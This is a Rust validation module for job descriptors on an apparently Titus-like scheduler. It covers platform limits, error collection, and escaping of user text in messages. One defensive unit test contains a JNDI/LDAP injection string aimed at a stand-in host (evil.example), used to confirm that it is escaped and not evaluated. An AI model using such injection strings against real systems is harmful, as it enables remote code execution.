//! Checks a job descriptor against the platform's limits and reports every problem at once.
//!
//! Security rule, learnt from Titus' history (a validation message that evaluated a user-supplied
//! constraint name led to remote code execution): user text enters a message or a field path only
//! through [`quoted`], which escapes it with Rust's `{:?}` and cuts it short. Nothing downstream
//! may then mistake it for markup, a template or a second log line.

mod image;
mod rules;
mod serde_errors;
#[cfg(test)]
mod test_support;

use std::fmt;

use serde::{Deserialize, Serialize};
use serde_path_to_error::Segment;

use crate::job::JobDescriptor;
use serde_errors::malformed;

pub use rules::{validate, validate_disruption_budget, CAPABILITIES};

/// One problem with a descriptor: where (a dotted field path in the JSON's camelCase names, with
/// `[i]` or `["key"]` for collections, e.g. `container.resources.cpu`, `container.env["FOO"]`,
/// `container.hostMounts[0].hostPath`) and what was wrong.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FieldError {
    pub field: String,
    pub message: String,
}

impl FieldError {
    pub fn new(field: impl Into<String>, message: impl Into<String>) -> FieldError {
        FieldError {
            field: field.into(),
            message: message.into(),
        }
    }
}

impl fmt::Display for FieldError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", self.field, self.message)
    }
}

/// Platform limits; [`Default`] gives Titus' default limits.
///
/// Read as configuration, so a missing limit takes Titus' default and a misspelt one is an error
/// rather than silently ignored.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", default, deny_unknown_fields)]
pub struct Limits {
    pub cpu_min: f64,
    pub cpu_max: f64,
    pub gpu_max: u32,
    pub memory_mb_min: u64,
    pub memory_mb_max: u64,
    pub disk_mb_min: u64,
    pub disk_mb_max: u64,
    pub network_mbps_min: u64,
    pub network_mbps_max: u64,
    pub batch_size_max: u32,
    pub service_max: u32,
    pub runtime_limit_sec_max: u64,
    /// Applies to batch jobs only: services are always replaced, so their policies may allow
    /// `u32::MAX` retries (the service default).
    pub retries_max: u32,
    pub retry_delay_ms_max: u64,
    pub env_max_count: usize,
    /// Total bytes of all names and values.
    pub env_max_bytes: usize,
    /// Entries in container.secrets.
    pub secrets_max_count: usize,
    pub attributes_max_count: usize,
    pub attribute_key_max_len: usize,
    pub attribute_value_max_len: usize,
    /// For applicationName, capacityGroup and jobGroupInfo's stack, detail and sequence.
    pub name_max_len: usize,
    /// Entries in each of entryPoint and command.
    pub args_max_count: usize,
    /// Total bytes in each of entryPoint and command.
    pub args_max_bytes: usize,
    /// Entries in each of softConstraints and hardConstraints.
    pub constraints_max: usize,
    pub host_mounts_max: usize,
    pub kill_grace_period_sec_max: u32,
    pub descriptor_max_bytes: usize,
}

impl Limits {
    /// Titus' default limits.
    pub fn titus_defaults() -> Limits {
        Limits {
            cpu_min: 0.1,
            cpu_max: 96.0,
            gpu_max: 16,
            memory_mb_min: 512,
            memory_mb_max: 1_152_000,
            disk_mb_min: 10_000,
            disk_mb_max: 1_550_000,
            network_mbps_min: 128,
            network_mbps_max: 400_000,
            batch_size_max: 1_000,
            service_max: 10_000,
            runtime_limit_sec_max: 10 * 24 * 3600,
            retries_max: 1_000,
            retry_delay_ms_max: 24 * 3600 * 1000,
            env_max_count: 512,
            env_max_bytes: 32 * 1024,
            secrets_max_count: 64,
            attributes_max_count: 128,
            attribute_key_max_len: 256,
            attribute_value_max_len: 2_048,
            name_max_len: 64,
            args_max_count: 256,
            args_max_bytes: 64 * 1024,
            constraints_max: 16,
            host_mounts_max: 16,
            kill_grace_period_sec_max: 600,
            descriptor_max_bytes: 256 * 1024,
        }
    }
}

impl Default for Limits {
    fn default() -> Self {
        Limits::titus_defaults()
    }
}

/// Why a submitted descriptor was refused.
#[derive(Debug, Clone, PartialEq, thiserror::Error)]
#[non_exhaustive]
pub enum ParseError {
    /// Over `limits.descriptor_max_bytes`.
    #[error("job descriptor is {size_bytes} bytes, expected at most {max_bytes}")]
    TooLarge { size_bytes: usize, max_bytes: usize },
    /// Not JSON, a wrong type, a missing or an unknown field. `field` is where (`(root)` for the
    /// document itself); the message names what was wrong and what was expected.
    #[error("{field}: {message}")]
    Malformed { field: String, message: String },
    /// Well-formed but invalid: every problem found.
    #[error("{}", summarize(.0))]
    Invalid(Vec<FieldError>),
}

impl ParseError {
    /// The error as field errors, the shape an API response reports.
    pub fn field_errors(&self) -> Vec<FieldError> {
        match self {
            ParseError::TooLarge { .. } => vec![FieldError::new(BODY_FIELD, self.to_string())],
            ParseError::Malformed { field, message } => {
                vec![FieldError::new(field.clone(), message.clone())]
            }
            ParseError::Invalid(errors) => errors.clone(),
        }
    }
}

/// The field name of problems with the document as a whole.
const ROOT_FIELD: &str = "(root)";
/// The field name of problems with the request body itself, before it is read as JSON.
const BODY_FIELD: &str = "(body)";
/// How much of a user's text a message quotes.
const QUOTED_MAX_CHARS: usize = 64;
/// How many problems `ParseError::Invalid`'s message lists; the variant itself keeps them all.
const SUMMARY_MAX_PROBLEMS: usize = 10;

fn summarize(errors: &[FieldError]) -> String {
    if errors.is_empty() {
        return "job descriptor is invalid".to_owned();
    }
    let noun = if errors.len() == 1 {
        "problem"
    } else {
        "problems"
    };
    let shown: Vec<String> = errors
        .iter()
        .take(SUMMARY_MAX_PROBLEMS)
        .map(FieldError::to_string)
        .collect();
    let mut text = format!(
        "job descriptor has {} {noun}: {}",
        errors.len(),
        shown.join("; ")
    );
    if errors.len() > SUMMARY_MAX_PROBLEMS {
        text.push_str(&format!(
            "; and {} more",
            errors.len() - SUMMARY_MAX_PROBLEMS
        ));
    }
    text
}

/// The only way user text may enter a message or a field path: escaped by `{:?}` (quotes,
/// newlines and control characters cannot break out) and cut to [`QUOTED_MAX_CHARS`] so a huge
/// value cannot bloat the error.
pub fn quoted(text: &str) -> String {
    match text.char_indices().nth(QUOTED_MAX_CHARS) {
        None => format!("{text:?}"),
        Some((cut, _)) => format!("{:?}…", &text[..cut]),
    }
}

/// How many field-level problems one parse reports before it stops looking for more.
const MALFORMED_MAX_PROBLEMS: usize = 50;

/// Size check, then JSON, then the descriptor through `serde_path_to_error` (so an error says
/// where), then Titus' defaults for zero fields, then [`validate`].
///
/// Every problem is reported at once: a field that cannot be read (unknown, or of the wrong
/// type) is noted and taken out, and the rest is read again, so a descriptor with six unknown
/// fields hears of all six, together with what validation finds in the rest.
pub fn parse_descriptor(json: &[u8], limits: &Limits) -> Result<JobDescriptor, ParseError> {
    if json.len() > limits.descriptor_max_bytes {
        return Err(ParseError::TooLarge {
            size_bytes: json.len(),
            max_bytes: limits.descriptor_max_bytes,
        });
    }
    let (descriptor, mut problems) = read_message::<JobDescriptor>(json, "a job descriptor")?;
    let Some(mut descriptor) = descriptor else {
        return Err(malformed_or_invalid(problems));
    };
    descriptor.apply_defaults();
    match validate(&descriptor, limits) {
        Ok(()) if problems.is_empty() => Ok(descriptor),
        Ok(()) => Err(malformed_or_invalid(problems)),
        Err(errors) => {
            problems.extend(errors);
            Err(ParseError::Invalid(problems))
        }
    }
}

/// Reads a proto3 JSON message other than a descriptor (a disruption budget, a job's processes)
/// as [`parse_descriptor`] reads one: every unreadable or unknown field reported at once.
pub fn parse_message<T: serde::de::DeserializeOwned>(
    json: &[u8],
    what: &str,
) -> Result<T, ParseError> {
    match read_message::<T>(json, what)? {
        (Some(message), problems) if problems.is_empty() => Ok(message),
        (_, problems) => Err(malformed_or_invalid(problems)),
    }
}

/// The JSON object in `json` as `T`, and what could not be read: each field that failed is
/// noted and taken out, and the rest read again. `None` when even that fails.
fn read_message<T: serde::de::DeserializeOwned>(
    json: &[u8],
    what: &str,
) -> Result<(Option<T>, Vec<FieldError>), ParseError> {
    let mut deserializer = serde_json::Deserializer::from_slice(json);
    let mut document = serde_json::Value::deserialize(&mut deserializer)
        .map_err(|error| malformed(&[], &error))?;
    // Trailing bytes after the document would otherwise be ignored.
    deserializer.end().map_err(|error| malformed(&[], &error))?;
    if !document.is_object() {
        return Err(ParseError::Malformed {
            field: ROOT_FIELD.to_owned(),
            message: format!("expected a JSON object, {what}"),
        });
    }
    let mut problems = Vec::new();
    loop {
        match serde_path_to_error::deserialize::<_, T>(&document) {
            Ok(message) => return Ok((Some(message), problems)),
            Err(error) => {
                let segments: Vec<&Segment> = error.path().iter().collect();
                let problem = malformed(&segments, error.inner());
                let removed = remove_at(&mut document, &segments);
                problems.extend(problem.field_errors());
                if !removed || problems.len() >= MALFORMED_MAX_PROBLEMS {
                    return Ok((None, problems));
                }
            }
        }
    }
}

/// One problem reading the document stays `Malformed`, as before; more are `Invalid`.
fn malformed_or_invalid(mut problems: Vec<FieldError>) -> ParseError {
    if problems.len() == 1 {
        let only = problems.remove(0);
        ParseError::Malformed {
            field: only.field,
            message: only.message,
        }
    } else {
        ParseError::Invalid(problems)
    }
}

/// Takes out the value at `path` (a serde path into `document`); false when there is nothing to
/// take out there (the problem is with the document itself).
fn remove_at(document: &mut serde_json::Value, path: &[&Segment]) -> bool {
    let Some((last, parents)) = path.split_last() else {
        return false;
    };
    let mut node = document;
    for segment in parents {
        let next = match (*segment, node) {
            (
                Segment::Map { key } | Segment::Enum { variant: key },
                serde_json::Value::Object(map),
            ) => map.get_mut(key.as_str()),
            (Segment::Seq { index }, serde_json::Value::Array(items)) => items.get_mut(*index),
            _ => None,
        };
        match next {
            Some(next) => node = next,
            None => return false,
        }
    }
    match (*last, node) {
        (Segment::Map { key } | Segment::Enum { variant: key }, serde_json::Value::Object(map)) => {
            map.remove(key.as_str()).is_some()
        }
        (Segment::Seq { index }, serde_json::Value::Array(items)) if *index < items.len() => {
            items.remove(*index);
            true
        }
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::test_support::{batch_with, malformed, message_for, parse, problems_of};
    use super::*;
    use crate::job::{
        BatchJobSpec, Capacity, ContainerResources, RetryPolicy, DEFAULT_CAPACITY_GROUP,
        DEFAULT_KILL_GRACE_PERIOD_SEC, DEFAULT_RUNTIME_LIMIT_SEC,
    };

    #[test]
    fn minimal_batch_descriptor_parses_with_titus_defaults() {
        let json = batch_with(json!({}));

        let descriptor = parse(&json).expect("the minimal batch descriptor is valid");

        assert_eq!(descriptor.capacity_group, DEFAULT_CAPACITY_GROUP);
        assert_eq!(
            descriptor.container.resources,
            ContainerResources::default()
        );
        assert_eq!(descriptor.container.resources.cpu, 1.0);
        assert_eq!(descriptor.container.resources.memory_mb, 512);
        assert_eq!(descriptor.container.resources.disk_mb, 10_000);
        assert_eq!(descriptor.container.resources.network_mbps, 128);
        assert_eq!(
            descriptor.container.kill_grace_period_sec,
            DEFAULT_KILL_GRACE_PERIOD_SEC
        );
        assert_eq!(descriptor.container.kill_grace_period_sec, 10);
        assert_eq!(
            descriptor.batch,
            Some(BatchJobSpec {
                size: 1,
                runtime_limit_sec: 432_000,
                retry_policy: RetryPolicy::Immediate { retries: 0 },
                retry_on_runtime_limit: false,
            })
        );
        assert_eq!(DEFAULT_RUNTIME_LIMIT_SEC, 432_000);
        assert_eq!(descriptor.service, None);
    }

    #[test]
    fn minimal_service_descriptor_parses_with_unlimited_service_retries() {
        let json = batch_with(json!({
            "batch": null,
            "service": {"capacity": {"desired": 2, "max": 3}}
        }));

        let descriptor = parse(&json).expect("the minimal service descriptor is valid");

        let service = descriptor.service.expect("service section");
        assert_eq!(
            service.capacity,
            Capacity {
                min: 0,
                desired: 2,
                max: 3
            }
        );
        assert!(service.enabled);
        assert_eq!(service.retry_policy.retries(), u32::MAX);
        assert_eq!(descriptor.capacity_group, "DEFAULT");
        assert_eq!(descriptor.container.resources.cpu, 1.0);
        assert_eq!(descriptor.container.kill_grace_period_sec, 10);
    }

    #[test]
    fn invalid_error_message_summarizes_every_problem() {
        let error = parse(&batch_with(json!({
            "applicationName": "",
            "container": {"killGracePeriodSec": 601}
        })))
        .expect_err("two problems");

        assert_eq!(
            error.to_string(),
            "job descriptor has 2 problems: applicationName: is required, expected 1 to 64 \
             letters, digits, '_', '.' or '-', starting with a letter or digit; \
             container.killGracePeriodSec: must be at most 600, got 601"
        );
        assert_eq!(error.field_errors().len(), 2);
    }

    #[test]
    fn invalid_error_message_lists_ten_problems_and_counts_the_rest() {
        let errors: Vec<FieldError> = (0..12)
            .map(|i| FieldError::new(format!("f{i}"), "bad"))
            .collect();

        let text = ParseError::Invalid(errors).to_string();

        assert!(text.starts_with("job descriptor has 12 problems: f0: bad; "));
        assert!(text.ends_with("f9: bad; and 2 more"), "{text}");
    }

    #[test]
    fn trailing_bytes_after_the_document_are_rejected() {
        let mut json = batch_with(json!({}));
        json.extend_from_slice(b" {}");

        let (field, message) = malformed(&json);

        assert_eq!(field, "(root)");
        assert!(message.contains("trailing characters"), "{message}");
    }

    #[test]
    fn malformed_error_is_one_field_error() {
        let error = parse(b"[]").expect_err("an array is not a descriptor");

        let errors = error.field_errors();

        assert_eq!(errors.len(), 1);
        assert_eq!(errors[0].field, "(root)");
    }

    #[test]
    fn descriptor_over_the_size_limit_is_too_large() {
        let limits = Limits {
            descriptor_max_bytes: 100,
            ..Limits::titus_defaults()
        };
        let json = vec![b' '; 101];

        let error = parse_descriptor(&json, &limits).expect_err("over the limit");

        assert_eq!(
            error,
            ParseError::TooLarge {
                size_bytes: 101,
                max_bytes: 100
            }
        );
        assert_eq!(
            error.field_errors(),
            vec![FieldError::new(
                "(body)",
                "job descriptor is 101 bytes, expected at most 100"
            )]
        );
    }

    #[test]
    fn descriptor_at_the_size_limit_is_read() {
        let json = batch_with(json!({}));
        let limits = Limits {
            descriptor_max_bytes: json.len(),
            ..Limits::titus_defaults()
        };

        assert!(parse_descriptor(&json, &limits).is_ok());
    }

    #[test]
    fn user_text_in_paths_and_messages_is_escaped_quoted_and_bounded() {
        let hostile = "a\"b\nc${jndi:ldap://evil.example/x}";
        let errors = problems_of(json!({
            "applicationName": hostile,
            "container": {
                "env": {hostile: "ok"},
                "hardConstraints": {"constraints": {hostile: "true"}},
                "softConstraints": {"constraints": {"machineType": "m5", "uniqueHost": hostile}}
            }
        }));

        let escaped = "\"a\\\"b\\nc${jndi:ldap://evil.example/x}\"";
        assert_eq!(
            message_for(&errors, "applicationName"),
            format!(
                "must be letters, digits, '_', '.' or '-', starting with a letter or digit, \
                 got {escaped}"
            )
        );
        let env_field = format!("container.env[{escaped}]");
        assert!(message_for(&errors, &env_field).starts_with("name must start"));
        let constraint_field = format!("container.hardConstraints.constraints[{escaped}]");
        assert!(message_for(&errors, &constraint_field)
            .starts_with(&format!("unknown constraint {escaped}, expected")));
        assert_eq!(
            message_for(
                &errors,
                "container.softConstraints.constraints[\"uniqueHost\"]"
            ),
            format!("constraint uniqueHost takes \"true\" or \"false\", got {escaped}")
        );
        for error in &errors {
            let text = error.to_string();
            assert!(!text.contains('\n'), "raw newline in {text:?}");
            assert!(!text.contains("a\"b"), "unescaped quote in {text:?}");
        }
    }

    #[test]
    fn long_user_text_is_cut_to_64_characters_in_messages_and_paths() {
        let long = "x".repeat(5_000);
        let errors = problems_of(json!({
            "applicationName": format!("-{long}"),
            "container": {
                "env": {format!("1{long}"): "v"},
                "hardConstraints": {"constraints": {"machineType": "m5", "uniqueHost": long}}
            }
        }));

        let cut = format!("\"{}\"…", "x".repeat(64));
        let env_field = format!("container.env[\"1{}\"…]", "x".repeat(63));
        assert!(message_for(&errors, &env_field).starts_with("name must start"));
        assert!(message_for(
            &errors,
            "container.hardConstraints.constraints[\"uniqueHost\"]"
        )
        .ends_with(&format!("got {cut}")));
        for error in &errors {
            assert!(error.to_string().len() < 400, "{error}");
        }
    }

    #[test]
    fn default_limits_are_titus_defaults_and_serialize_in_camel_case() {
        let limits = Limits::default();

        let json = serde_json::to_value(&limits).expect("limits serialize");

        assert_eq!(limits, Limits::titus_defaults());
        assert_eq!(json["memoryMbMax"], 1_152_000);
        assert_eq!(json["runtimeLimitSecMax"], 864_000);
        assert_eq!(json["retryDelayMsMax"], 86_400_000);
        assert_eq!(json["descriptorMaxBytes"], 262_144);
        let back: Limits = serde_json::from_value(json).expect("limits deserialize");
        assert_eq!(back, limits);
    }

    #[test]
    fn limits_config_fills_missing_limits_and_rejects_misspelt_ones() {
        let partial: Limits =
            serde_json::from_str(r#"{"cpuMax": 64}"#).expect("a partial config is read");
        let misspelt = serde_json::from_str::<Limits>(r#"{"cpuMaxx": 64}"#);

        assert_eq!(
            partial,
            Limits {
                cpu_max: 64.0,
                ..Limits::titus_defaults()
            }
        );
        assert!(misspelt.is_err());
    }
}
